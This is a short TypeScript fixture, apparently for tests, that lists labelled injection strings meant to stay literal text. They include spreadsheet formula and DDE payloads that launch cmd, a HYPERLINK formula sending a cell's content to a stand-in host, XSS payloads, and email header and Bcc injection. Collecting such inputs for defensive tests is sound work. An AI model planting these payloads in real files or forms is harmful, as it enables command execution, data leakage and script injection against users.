/** Texts that some program would run, open or draw: here they are what somebody wrote, and stay so. */
export const INIEZIONI: readonly (readonly [string, string])[] = [
  ["a formula", "=1+1"],
  ["a formula with a sign", "+A1*2"],
  ["a formula with a minus", "-2+3"],
  ["an old function", "@SUM(A1:A9)"],
  ["DDE", "=cmd|' /C calc'!A0"],
  ["DDE behind a sign", "+cmd|' /C calc'!A0"],
  ["a link out", '=HYPERLINK("http://esempio.invalid/?q="&A1,"premere qui")'],
  ["a file of others", "='\\\\server\\[a.xlsx]Foglio1'!A1"],
  ["a script link", "javascript:alert(1)"],
  ["HTML", "<img src=x onerror=alert(1)><script>alert(1)</script>"],
  ["an attribute's end", '"><b onmouseover="alert(1)">'],
  ["an entity", "&lt;b&gt; &#x3C;script&#x3E;"],
  ["a tab before a formula", "\t=1+1"],
  ["a header of a message", "x\r\nBcc: altri@esempio.invalid"],
  ["a query of a link", "x&bcc=altri@esempio.invalid&subject=altro?#y"],
];
